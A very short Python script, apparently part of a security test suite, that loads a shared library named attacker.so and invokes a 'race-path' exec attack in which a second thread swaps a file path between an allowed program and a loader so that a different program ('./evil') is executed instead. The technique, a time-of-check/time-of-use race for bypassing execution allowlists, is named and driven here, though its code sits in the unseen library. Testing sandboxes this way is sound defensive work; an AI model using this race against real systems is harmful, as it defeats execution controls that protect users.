"""A second thread flips the path between the allowed program and the loader, which is given another program."""
import ctypes

attacker = ctypes.CDLL("./attacker.so")
attacker.attack(6, (ctypes.c_char_p * 7)(b"race-path", b"exec", b"./good", b"./load", b"2000", b"./evil"))
